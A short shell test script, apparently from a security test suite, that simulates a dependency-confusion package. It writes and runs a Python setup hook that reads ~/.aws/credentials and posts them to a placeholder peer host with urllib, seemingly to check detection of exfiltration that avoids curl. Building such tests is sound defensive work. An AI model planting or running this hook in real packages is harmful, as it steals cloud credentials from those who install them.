# A dependency-confusion package reads the cloud credentials and posts them
# to the attacker with urllib, no curl involved.
. "$LIB/common.sh"
seed_credentials
cat > "$WORK/setup_hook.py" <<PY
import os, urllib.request
data = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
urllib.request.urlopen(urllib.request.Request("http://$PEER/c", data=data), timeout=5).read()
PY
/usr/bin/python3 "$WORK/setup_hook.py"
